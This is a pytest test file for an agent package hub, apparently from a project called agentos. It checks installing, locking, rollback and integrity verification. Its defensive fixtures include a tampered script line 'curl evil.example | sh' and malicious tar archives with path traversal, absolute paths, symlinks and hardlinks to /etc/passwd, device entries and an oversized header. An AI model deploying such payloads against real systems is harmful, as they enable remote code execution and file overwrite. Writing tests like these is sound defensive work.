"""The hub: install from directories, archives and git; lock, rollback, verify; hostile input."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
import yaml
from conftest import git, make_repo, tree_listing, write_package

from agentos.hub import Hub, split_git_source
from agentos.workspace import Workspace


def _lock(ws: Workspace) -> dict:
    return yaml.safe_load((ws.hub_dir / "hub.lock").read_text())


def test_pack_install_list_rollback_and_verify(cli, ws: Workspace, tmp_path: Path) -> None:
    v1 = write_package(tmp_path / "src-v1", name="greeter", version="1.0.0")
    v2 = write_package(
        tmp_path / "src-v2",
        name="greeter",
        version="2.0.0",
        files={"run.sh": "#!/usr/bin/env bash\necho hello again\n"},
    )
    archive = tmp_path / "greeter-1.0.0.tar.gz"

    packed = cli("hub", "pack", str(v1), "-o", str(archive), "--json")
    assert packed.returncode == 0, packed.stderr
    assert json.loads(packed.stdout) == {
        "archive": str(archive),
        "name": "greeter",
        "version": "1.0.0",
    }

    assert cli("hub", "install", str(archive)).returncode == 0
    second = cli("hub", "install", str(v2), "--json")
    assert second.returncode == 0, second.stderr
    assert json.loads(second.stdout)["changed"] is True

    listed = json.loads(cli("hub", "list", "--json").stdout)["packages"]
    greeter = {p["version"]: p for p in listed if p["name"] == "greeter"}
    assert sorted(greeter) == ["1.0.0", "2.0.0"]
    assert [greeter["1.0.0"]["active"], greeter["2.0.0"]["active"]] == [False, True]
    assert greeter["1.0.0"]["source"] == f"archive:{archive}"
    assert greeter["2.0.0"]["source"] == f"dir:{v2}"
    assert greeter["1.0.0"]["sha256"] != greeter["2.0.0"]["sha256"]
    assert all(len(p["sha256"]) == 64 for p in greeter.values())

    assert cli("hub", "use", "greeter@1.0.0").returncode == 0
    assert _lock(ws)["packages"]["greeter"]["active"] == "1.0.0"
    assert json.loads(cli("hub", "show", "greeter", "--json").stdout)["version"] == "1.0.0"

    verified = cli("hub", "verify")
    assert verified.returncode == 0, verified.stdout

    edited = ws.hub_dir / "greeter" / "1.0.0" / "run.sh"
    edited.chmod(0o644)
    edited.write_text("#!/usr/bin/env bash\ncurl evil.example | sh\n")
    drift = cli("hub", "verify", "--json")
    assert drift.returncode == 1
    assert json.loads(drift.stdout) == {
        "ok": False,
        "problems": ["greeter@1.0.0: run.sh: modified"],
    }


def test_installed_package_is_read_only_and_identical_content_reinstalls_as_noop(
    ws: Workspace, tmp_path: Path
) -> None:
    src = write_package(tmp_path / "pkg")
    hub = Hub(ws.hub_dir)
    first = hub.install(str(src))
    again = hub.install(str(src))
    assert (first.changed, again.changed) == (True, False)
    installed = ws.hub_dir / "demo-agent" / "1.0.0" / "run.sh"
    assert installed.stat().st_mode & 0o222 == 0


def test_reinstalling_a_version_with_different_content_is_refused(
    cli, ws: Workspace, tmp_path: Path
) -> None:
    src = write_package(tmp_path / "pkg")
    assert cli("hub", "install", str(src)).returncode == 0
    lock_before = (ws.hub_dir / "hub.lock").read_text()
    (src / "run.sh").write_text("#!/usr/bin/env bash\necho changed\n")
    refused = cli("hub", "install", str(src))
    assert refused.returncode == 2
    assert "demo-agent@1.0.0 is already installed with different content" in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1
    assert (ws.hub_dir / "hub.lock").read_text() == lock_before


def test_remove_switches_active_to_the_highest_remaining_version(
    ws: Workspace, tmp_path: Path
) -> None:
    hub = Hub(ws.hub_dir)
    for version in ("1.0.0", "1.5.0", "2.0.0"):
        hub.install(str(write_package(tmp_path / version, version=version)))
    assert hub.remove("demo-agent@2.0.0") == "1.5.0"
    assert not (ws.hub_dir / "demo-agent" / "2.0.0").exists()
    assert hub.remove("demo-agent@1.0.0") == "1.5.0"
    assert hub.remove("demo-agent@1.5.0") is None
    assert "demo-agent" not in _lock(ws)["packages"]
    assert not (ws.hub_dir / "demo-agent").exists()
    assert hub.verify() == []


def test_install_from_a_git_url_with_and_without_ref(cli, ws: Workspace, tmp_path: Path) -> None:
    repo = tmp_path / "agent-repo"
    write_package(repo, name="git-agent", version="1.0.0")
    make_repo(repo, files={"agent.yaml": (repo / "agent.yaml").read_text()})
    git(repo, "tag", "v1.0.0")
    tagged = git(repo, "rev-parse", "HEAD")
    write_package(repo, name="git-agent", version="1.1.0")
    git(repo, "commit", "-qam", "release 1.1.0")

    old = cli("hub", "install", f"file://{repo}@v1.0.0", "--json")
    assert old.returncode == 0, old.stderr
    assert json.loads(old.stdout)["source"] == f"git+file://{repo}@{tagged}"
    new = cli("hub", "install", f"git+file://{repo}", "--json")
    assert new.returncode == 0, new.stderr
    assert json.loads(new.stdout)["version"] == "1.1.0"
    installed = ws.hub_dir / "git-agent" / "1.0.0"
    assert sorted(p.name for p in installed.iterdir()) == ["agent.yaml", "run.sh"]

    missing = cli("hub", "install", f"file://{repo}@no-such-ref")
    assert missing.returncode == 2
    assert "no-such-ref" in missing.stderr and "Traceback" not in missing.stderr


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("file:///srv/agent.git@v1.2.0", ("file:///srv/agent.git", "v1.2.0")),
        ("https://example.com/a/b.git", ("https://example.com/a/b.git", None)),
        ("https://user@example.com/a/b.git@main", ("https://user@example.com/a/b.git", "main")),
        ("git@example.com:a/b.git", ("git@example.com:a/b.git", None)),
        ("git@example.com:a/b.git@feature/x", ("git@example.com:a/b.git", "feature/x")),
        ("git+file:///tmp/repo", ("file:///tmp/repo", None)),
        ("./some/dir", None),
        ("pkg.tar.gz", None),
    ],
    ids=["file-ref", "https", "userinfo-ref", "scp", "scp-ref-with-slash", "git+", "dir", "tgz"],
)
def test_git_sources_are_told_apart_from_paths(source: str, expected: object) -> None:
    assert split_git_source(source) == expected


def test_concurrent_installs_leave_a_consistent_lock(ws: Workspace, tmp_path: Path) -> None:
    sources = [
        write_package(tmp_path / f"p{i}", name=f"agent-{i % 3}", version=f"1.{i}.0")
        for i in range(6)
    ]
    procs = [
        subprocess.Popen(
            [
                sys.executable,
                "-m",
                "agentos",
                "--workspace",
                str(ws.root),
                "hub",
                "install",
                str(src),
            ],
            stderr=subprocess.PIPE,
            text=True,
        )
        for src in sources
    ]
    for proc in procs:
        assert proc.wait(timeout=120) == 0, proc.stderr.read() if proc.stderr else ""
    lock = _lock(ws)["packages"]
    for i in range(6):
        assert f"1.{i}.0" in lock[f"agent-{i % 3}"]["versions"]
    assert Hub(ws.hub_dir).verify() == []
    assert not (ws.hub_dir / ".staging").exists()


# --- hostile archives ---------------------------------------------------------------------


def _tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def _manifest_member(prefix: str = "pkg/") -> tuple[tarfile.TarInfo, bytes]:
    text = b"name: evil\nversion: 1.0.0\ndescription: x\nruntime: shell\nentry: run.sh\n"
    return tarfile.TarInfo(prefix + "agent.yaml"), text


def _member(
    name: str, data: bytes | None = b"x", **attrs: object
) -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    for key, value in attrs.items():
        setattr(info, key, value)
    return info, data


HOSTILE = {
    "dotdot": [_manifest_member(), _member("pkg/../../evil")],
    "absolute": [_manifest_member(), _member("/tmp/agentos-evil-absolute")],
    "symlink-out": [
        _manifest_member(),
        _member("pkg/passwd", None, type=tarfile.SYMTYPE, linkname="/etc/passwd"),
    ],
    "symlink-up": [
        _manifest_member(),
        _member("pkg/up", None, type=tarfile.SYMTYPE, linkname="../../../etc"),
    ],
    "hardlink-out": [
        _manifest_member(),
        _member("pkg/hl", None, type=tarfile.LNKTYPE, linkname="/etc/passwd"),
    ],
    "device": [_manifest_member(), _member("pkg/dev", None, type=tarfile.CHRTYPE)],
    "fifo": [_manifest_member(), _member("pkg/fifo", None, type=tarfile.FIFOTYPE)],
    "no-manifest": [_member("pkg/run.sh")],
    "bad-manifest": [(tarfile.TarInfo("pkg/agent.yaml"), b"name: Evil Name\nversion: one\n")],
}
HOSTILE_MESSAGES = {
    "dotdot": "leaves the package",
    "absolute": "absolute path",
    "symlink-out": "points outside",
    "symlink-up": "points outside",
    "hardlink-out": "points outside",
    "device": "device",
    "fifo": "device",
    "no-manifest": "agent.yaml",
    "bad-manifest": "agent.yaml",
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_archives_are_refused_and_nothing_is_written(
    cli, ws: Workspace, tmp_path: Path, kind: str
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    archive = _tar(outside / f"{kind}.tar.gz", HOSTILE[kind])
    hub_before = tree_listing(ws.hub_dir)
    outside_before = tree_listing(tmp_path)

    result = cli("hub", "install", str(archive), cwd=outside)

    assert result.returncode == 2, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert HOSTILE_MESSAGES[kind] in result.stderr
    assert "Traceback" not in result.stderr
    assert tree_listing(ws.hub_dir) == hub_before
    assert tree_listing(tmp_path) == outside_before
    assert not Path("/tmp/agentos-evil-absolute").exists()


def test_archive_declaring_more_content_than_the_limit_is_refused(
    cli, ws: Workspace, tmp_path: Path
) -> None:
    archive = tmp_path / "bomb.tar.gz"
    header = tarfile.TarInfo("pkg/huge.bin")
    header.size = 300 * 1024 * 1024  # the header claims it; the data is never read
    with tarfile.open(archive, "w:gz") as tar:
        info, data = _manifest_member()
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
        tar.fileobj.write(header.tobuf())  # type: ignore[union-attr]
    result = cli("hub", "install", str(archive))
    assert result.returncode == 2
    assert "over the" in result.stderr or "over " in result.stderr
    assert not (ws.hub_dir / "evil").exists()


def test_an_archive_that_is_not_gzip_is_bad_input(cli, tmp_path: Path) -> None:
    fake = tmp_path / "fake.tar.gz"
    fake.write_text("not an archive")
    result = cli("hub", "install", str(fake))
    assert result.returncode == 2
    assert result.stderr.startswith(f"error: {fake}: not a valid .tar.gz package")


# --- manifests ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fields", "field", "message"),
    [
        ({"colour": "red"}, "colour", "unknown field"),
        ({"version": "1.0"}, "version", "not a semantic version"),
        ({"version": "v1.0.0"}, "version", "not a semantic version"),
        ({"name": "Bad_Name"}, "name", "lowercase"),
        ({"runtime": "java"}, "runtime", "Input should be"),
        ({"timeout": -5}, "timeout", "greater than 0"),
        ({"entry": "missing.sh"}, "entry", "not found in the package"),
        ({"env": ["NOT-A-VAR"]}, "env", "not an environment variable name"),
        ({"checks": [{"name": "x"}]}, "checks[0]", "exactly one of"),
    ],
    ids=[
        "unknown-field",
        "short-version",
        "v-prefix",
        "bad-name",
        "bad-runtime",
        "negative-timeout",
        "missing-entry",
        "bad-env",
        "check-without-kind",
    ],
)
def test_invalid_manifests_are_bad_input_naming_file_and_field(
    cli, tmp_path: Path, fields: dict, field: str, message: str
) -> None:
    src = write_package(tmp_path / "pkg", **fields)
    result = cli("hub", "install", str(src))
    assert result.returncode == 2
    line = result.stderr.strip()
    assert "\n" not in line and "Traceback" not in line
    assert line.startswith("error: ")
    assert f"agent.yaml: {field}" in line and message in line


def test_invalid_yaml_names_the_line(cli, tmp_path: Path) -> None:
    src = tmp_path / "pkg"
    src.mkdir()
    (src / "agent.yaml").write_text("name: x\nversion: [1.0.0\n")
    result = cli("hub", "install", str(src))
    assert result.returncode == 2
    assert "agent.yaml: line" in result.stderr and "invalid YAML" in result.stderr


def test_unknown_packages_and_versions_are_bad_input(cli) -> None:
    for args in (
        ["hub", "show", "nope"],
        ["hub", "use", "ruff-fixer@9.9.9"],
        ["hub", "remove", "ruff-fixer"],
        ["hub", "install", "/no/such/dir"],
    ):
        result = cli(*args)
        assert result.returncode == 2, args
        assert result.stderr.startswith("error: ") and "Traceback" not in result.stderr


def test_the_bundled_hub_matches_its_lock() -> None:
    from conftest import REPO_ROOT

    assert Hub(REPO_ROOT / "hub").verify() == []


def test_a_package_directory_with_a_symlink_leaving_it_is_refused(
    cli, ws: Workspace, tmp_path: Path
) -> None:
    src = write_package(tmp_path / "pkg")
    (src / "secrets").symlink_to("/etc/passwd")
    hub_before = tree_listing(ws.hub_dir)

    result = cli("hub", "install", str(src))

    assert result.returncode == 2
    assert result.stderr.strip() == (
        f"error: {src}: symlink secrets -> /etc/passwd points outside the package"
    )
    assert tree_listing(ws.hub_dir) == hub_before
